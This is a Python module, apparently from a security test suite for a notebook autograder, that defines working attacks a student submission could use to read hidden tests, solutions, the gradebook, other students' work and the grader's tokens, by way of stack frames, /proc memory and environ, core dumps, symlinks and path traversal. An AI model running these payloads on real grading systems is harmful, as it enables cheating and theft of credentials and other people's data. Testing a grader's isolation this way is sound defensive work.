"""Attacks that read what is hidden: tests, solutions, grades, other people's work, tokens."""

from attacks.kit import Attempt, collection

attacks, attack = collection("read")

# Run inside a function that a test calls.
FRAMES = """
import sys
frame, found = sys._getframe(1), []
while frame:
    found += [frame.f_code.co_consts, list(frame.f_locals.items())[-40:]]
    frame = frame.f_back
keep(found)"""


@attack("its own notebook in the working directory, where autograding puts the hidden tests")
def own_notebook(it: Attempt) -> None:
    it.everywhere(
        "import glob; keep([open(p).read() for p in glob.glob('*.ipynb') + glob.glob('../**/*.ipynb')])"
    )


@attack("source/, with the solutions")
def source(it: Attempt) -> None:
    it.cell("import glob; keep([open(p).read() for p in glob.glob(COURSE + '/source/*/*')])")


@attack("the table source_cell of the gradebook")
def gradebook(it: Attempt) -> None:
    it.cell("""
import sqlite3
base = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True)
keep(base.execute("select source from source_cell").fetchall(), base.execute("select * from student").fetchall())""")


@attack("an event before each cell that prints it")
def pre_run_cell(it: Attempt) -> None:
    it.cell("get_ipython().events.register('pre_run_cell', lambda info: keep(info.raw_cell))")


@attack("the frames of whoever calls the student's function")
def callers_frame(it: Attempt) -> None:
    it.everywhere(FRAMES)


@attack("linecache and inspect: the source of the caller")
def linecache(it: Attempt) -> None:
    it.everywhere("""
import linecache, inspect
keep(list(linecache.cache.values()))
keep([inspect.getsource(info.frame) for info in inspect.stack()[1:3] if info.code_context])""")


@attack("In[], the history and the namespace")
def history(it: Attempt) -> None:
    it.everywhere("""
shell = get_ipython()
keep(shell.user_ns.get('In'), list(shell.history_manager.get_range(raw=True)) if shell.history_manager else '')
keep({k: v for k, v in shell.user_ns.items() if isinstance(v, str)})""")


@attack("every object that the garbage collector knows")
def garbage(it: Attempt) -> None:
    it.everywhere("""
import gc
held = [v for o in gc.get_objects() if type(o) is dict for v in list(o.values()) if type(v) is str]
keep([text for text in held if 'HIDDEN TESTS' in text or 'LOO' + 'T-' in text][:50])""")


@attack("the memory of its own and of all other processes")
def memory(it: Attempt) -> None:
    it.everywhere("""
import re, os
def scan(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                if " rw" in line and end - start < 1 << 28:
                    memory.seek(start)
                    yield from set(re.findall(rb"LOO[T]-[a-z]+-[0-9a-f]{12}", memory.read(end - start)))
    except (OSError, ValueError):
        pass
keep(list(scan("self")), list(scan(os.getppid())))""")


@attack("a core dump of its own process")
def core_dump(it: Attempt) -> None:
    it.everywhere("""
import glob, os, re, resource
try:
    resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
except (ValueError, OSError):
    pass
if not (pid := os.fork()):
    os.abort()
os.waitpid(pid, 0)
for path in glob.glob("core*"):
    keep(set(re.findall(rb"LOO[T]-[a-z]+-[0-9a-f]{12}", open(path, "rb").read())))
    os.remove(path)""")


@attack("the arguments of every call, kept in a file for the next attempt")
def arguments(it: Attempt) -> None:
    it.everywhere("keep('called with', x)")


@attack("objects whose == and arithmetic record what they meet")
def recording_equality(it: Attempt) -> None:
    it.cell("""
class Recorder:
    def met(self, other):
        keep(other)
        return True
    __eq__ = __ne__ = __lt__ = __gt__ = __sub__ = __rsub__ = __array_ufunc__ = met""")
    it.everywhere("", "return Recorder()")


@attack("objects that look around when they are converted to numbers or arrays")
def recording_conversion(it: Attempt) -> None:
    looks = FRAMES.strip().replace("\n", "\n        ")
    it.cell(f"""
class Convertible:
    def look(self, *args, **kwargs):
        {looks}
        return 0.0
    __float__ = __array__ = __index__ = __abs__ = __len__ = __iter__ = __repr__ = __hash__ = __ne__ = look""")
    it.everywhere("", "return Convertible()")


@attack("an error text that carries the caller's secrets to the feedback page")
def telling_error(it: Attempt) -> None:
    it.everywhere(
        "import sys; raise ValueError(f'{sys._getframe(1).f_locals} {sys._getframe(1).f_code.co_consts}')"
    )


@attack("the sources of failed tests on the feedback page, by being wrong")
def feedback_page(it: Attempt) -> None:
    it.everywhere("", "return -1")


@attack("hidden lines through a traceback of its own: an exception that was raised in a test and kept")
def kept_traceback(it: Attempt) -> None:
    it.everywhere("""
import traceback
keep(traceback.format_stack())
raise RuntimeError(''.join(traceback.format_stack())[-1500:])""")


@attack("a trace function that follows the test's own lines")
def settrace(it: Attempt) -> None:
    it.everywhere("""
import sys
def follow(frame, event, arg):
    if frame.f_code.co_name == '<module>':
        keep(frame.f_code.co_consts)
sys.settrace(follow)""")


@attack("the submissions of others")
def neighbours(it: Attempt) -> None:
    it.cell("import glob; keep([open(p).read() for p in glob.glob(COURSE + '/submitted/*/*/*.ipynb')])")
    it.cell("import glob; keep([open(p).read() for p in glob.glob(COURSE + '/autograded/*/*/*.ipynb')])")


@attack("links in the submission that are followed when it is copied")
def followed_link(it: Attempt) -> None:
    it.link("notes.txt", it.course / "source" / it.lesson / f"{it.lesson}.ipynb")
    it.link("grades.txt", it.course / "gradebook.db")
    it.link("token.txt", it.home / ".config" / "token")
    it.link("them", it.course / "submitted" / "a-before")
    it.cell("""
import glob
for path in glob.glob('*.txt') + glob.glob('them/*/*.ipynb'):
    keep(open(path, errors='replace').read())""")


@attack("a link in what is handed in, followed by `nbgrader collect`", by_exchange=True)
def collected_link(it: Attempt) -> None:
    it.link("notes.txt", it.course / "source" / it.lesson / f"{it.lesson}.ipynb")
    it.link("token.txt", it.home / ".config" / "token")
    it.cell("import glob; keep([open(path).read() for path in glob.glob('*.txt')])")


@attack("environment variables and tokens, its own and its parents'")
def environment(it: Attempt) -> None:
    it.cell("""
import glob
keep(dict(os.environ))
for path in glob.glob('/proc/[0-9]*/environ'):
    try:
        text = open(path, 'rb').read()
        if MARK.encode() in text or b'ATTACK' in text:
            keep(text)
    except OSError:
        pass""")


@attack("files in the grader's home folder")
def home(it: Attempt) -> None:
    it.cell("import glob; keep([open(p).read() for p in glob.glob(HOME + '/.[!.]*/*') if os.path.isfile(p)])")
    it.cell("keep(open(os.path.expanduser('~/.config/token')).read())")


@attack("path traversal from the working directory, the submission and the course package")
def traversal(it: Attempt) -> None:
    it.cell("""
import glob, course_utils
starts = ['.', os.path.dirname(course_utils.__file__), '/submission', '/proc/self/root', f'/proc/{os.getppid()}/cwd']
for start in starts:
    for up in range(1, 5):
        above = start + '/..' * up
        for path in glob.glob(above + '/source/*/0*.ipynb') + glob.glob(above + '/gradebook.db'):
            keep(open(path, errors='replace').read())""")


@attack("open files that it inherited from the grader")
def inherited_files(it: Attempt) -> None:
    it.cell("""
for who in ('self', os.getppid()):
    try:
        numbers = os.listdir(f'/proc/{who}/fd')
    except OSError:
        continue
    for number in numbers:
        path = f'/proc/{who}/fd/{number}'
        try:
            if os.path.isfile(path):
                keep(os.readlink(path), open(path, errors='replace').read(1 << 20))
        except OSError:
            pass""")


@attack("local files shown in markdown, on the pages", pages=True)
def markdown_file(it: Attempt) -> None:
    it.cell("""
![x](../../../source/01-plain/01-plain.ipynb) <img src="/etc/passwd"> <object data="../../../gradebook.db"></object>
{% include '../../../nbgrader_config.py' %} {{ resources }}""", kind="markdown")  # fmt: skip
